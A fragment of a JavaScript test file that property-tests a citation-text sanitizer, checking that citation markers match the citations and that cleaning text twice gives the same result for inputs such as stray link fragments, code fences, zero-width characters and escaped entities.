        const markers = new Set(answer.citations.map(({ marker }) => marker));
        expect(numbersIn(answer.text).filter((number) => !markers.has(number))).toEqual([]);
      }),
      { numRuns: fewer(40, 150) },
    );
  });

  it.each([
    "<1evil.example/x",
    "<1evil.example",
    "a <2https://evil.example",
    "   ```\nx\n   ```\ny",
    "    ```\n    x\n    ```\n[9] y\n```",
    "\u200B\n    ```\n\n```\n»x\n    x:\n    ```\ny‹z",
    "a\n    ```\n    evil.com\n    ```\nb",
    "a&l&amp;t;b&amp;#91;9&#93;",
    "〔9ˋ\u200D〕x",
  ])("is plain once it is plain: %s", (text) => {
    const once = cleanText(text, new Set([known]));
    expect(cleanText(once, new Set([known]))).toBe(once);
  });

  it("is plain once it is plain [L12]", () => {
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
        const once = cleanText(parts.join(""), new Set([known]));
        expect(cleanText(once, new Set([known]))).toBe(once);
      }),
      { numRuns: fewer(100, 500) },
    );
  });
});
